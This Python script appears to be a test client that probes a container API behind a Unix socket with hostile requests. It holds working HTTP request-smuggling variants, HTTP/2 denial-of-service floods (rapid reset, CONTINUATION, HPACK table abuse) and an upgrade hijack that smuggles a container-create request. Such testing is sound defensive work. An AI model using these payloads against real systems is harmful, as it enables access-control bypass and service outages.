#!/usr/bin/env python3
"""client.py SOCKET WHAT…: what hostile clients of the API say, and what they get.

   smuggle           each form of a request that has two meanings, behind an honest one on the same connection; a line each: its
                     name, and the statuses of all answers
   flood KIND        frames of HTTP/2 of one kind without end on a connection to /grpc, which is not read from; prints how many MB
                     went before it was closed, or "open"
   hijack PATH       becomes attached to PATH, with a request behind the head; prints what comes
   allowed FILE      for each "METHOD PATH" of FILE its status
"""
import socket
import struct
import sys
import time


def connect():
    client = socket.socket(socket.AF_UNIX)
    client.settimeout(2)
    client.connect(sys.argv[1])
    return client


def read_all(client, seconds=1.0):
    out, end = b"", time.monotonic() + seconds
    try:
        while time.monotonic() < end:
            client.settimeout(max(0.01, end - time.monotonic()))
            data = client.recv(65536)
            if not data:
                break
            out += data
    except OSError:
        pass
    return out


def statuses(data):
    return [part[:3].decode() for part in data.split(b"HTTP/1.1 ")[1:]]


INNER = b"GET /version HTTP/1.1\r\nHost: d\r\n\r\n"
POST = b"POST /containers/create HTTP/1.1\r\nHost: d\r\n"
FORMS = {
    "honest": INNER,
    "length-and-chunks": POST + b"Content-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n" + INNER,
    "two-lengths": POST + b"Content-Length: 0\r\nContent-Length: %d\r\n\r\n" % len(INNER) + INNER,
    "two-lengths-turned": POST + b"Content-Length: %d\r\nContent-Length: 0\r\n\r\n" % len(INNER) + INNER,
    "other-coding": POST + b"Transfer-Encoding: xchunked\r\nContent-Length: 0\r\n\r\n" + INNER,
    "two-codings": POST + b"Transfer-Encoding: chunked\r\nTransfer-Encoding: identity\r\n\r\n0\r\n\r\n" + INNER,
    "blank-in-name": POST + b"Transfer-Encoding : chunked\r\nContent-Length: 0\r\n\r\n" + INNER,
    "folded": POST + b"X: y\r\n Transfer-Encoding: chunked\r\nContent-Length: 0\r\n\r\n" + INNER,
    "negative": POST + b"Content-Length: -1\r\n\r\n" + INNER,
    "plus": POST + b"Content-Length: +0\r\n\r\n" + INNER,
    "hexadecimal": POST + b"Content-Length: 0x0\r\n\r\n" + INNER,
    "two-hosts": b"GET /version HTTP/1.1\r\nHost: a\r\nHost: b\r\n\r\n" + INNER,
    "old-with-chunks": b"POST /containers/create HTTP/1.0\r\nHost: d\r\nTransfer-Encoding: chunked\r\nConnection: keep-alive\r\n\r\n0\r\n\r\n" + INNER,
}


def smuggle():
    for name, form in FORMS.items():
        client = connect()
        client.sendall(b"GET /_ping HTTP/1.1\r\nHost: d\r\n\r\n" + form)
        print(name, *statuses(read_all(client, 0.4)), flush=True)


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def flood(kind):
    client = connect()
    client.sendall(b"POST /grpc HTTP/1.1\r\nHost: d\r\nConnection: Upgrade\r\nUpgrade: h2c\r\n\r\n")
    if b" 101 " not in client.recv(4096):
        sys.exit("it does not become HTTP/2")
    client.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(4, 0, 0))
    # :method POST, :scheme http, :path / and x: y, which is put into the table
    head = b"\x83\x86\x84\x40\x01x\x01y"
    blocks = {
        "ping": lambda n: frame(6, 0, 0, b"12345678") * 1000,
        "settings": lambda n: frame(4, 0, 0, struct.pack(">HI", 4, 65535)) * 1000,
        "reset": lambda n: b"".join(frame(1, 4, s, head) + frame(3, 0, s, struct.pack(">I", 8)) for s in range(2 * n * 500 + 1, 2 * (n + 1) * 500, 2)),
        "continuation": lambda n: (frame(1, 0, 1, head) if n == 0 else b"") + frame(9, 0, 1, b"\x40\x01a\x01b" * 2000) * 10,
        "table": lambda n: frame(1, 4, 2 * n + 1, head + b"\x40\x01a\x7f\x81\x1e" + b"z" * 4000 + b"\xbe" * 10000),
        "priority": lambda n: frame(2, 0, 2 * n + 1, b"\0\0\0\0\x10") * 1000,
        "empty-data": lambda n: (frame(1, 4, 1, head) if n == 0 else b"") + frame(0, 0, 1) * 1000,
    }
    sent, end = 0, time.monotonic() + 2
    try:
        for n in range(1 << 20):
            data = blocks[kind](n)
            client.sendall(data)
            sent += len(data)
            if sent > 32 << 20 or time.monotonic() > end:
                print("open", flush=True)
                time.sleep(5)
                return
    except OSError as error:
        print("stuck" if isinstance(error, TimeoutError) else "closed", flush=True)
        if isinstance(error, TimeoutError):
            time.sleep(5)


def hijack(path):
    client = connect()
    client.sendall(b"POST " + path.encode() + b" HTTP/1.1\r\nHost: d\r\nConnection: Upgrade\r\nUpgrade: tcp\r\n\r\n"
                   b"POST /containers/create?name=smuggled HTTP/1.1\r\nHost: d\r\nContent-Length: 19\r\n\r\n{\"Image\":\"busybox\"}\n")
    sys.stdout.write(read_all(client, 0.5).decode(errors="replace"))


def allowed(name):
    with open(name, encoding="latin-1") as file:
        for line in file.read().splitlines():
            client = connect()
            client.sendall(line.encode("latin-1") + b" HTTP/1.1\r\nHost: d\r\nConnection: close\r\nContent-Length: 2\r\n\r\n{}")
            print((statuses(read_all(client, 0.5)) or ["none"])[0], line, flush=True)


{"smuggle": smuggle, "flood": flood, "hijack": hijack, "allowed": allowed}[sys.argv[2]](*sys.argv[3:])
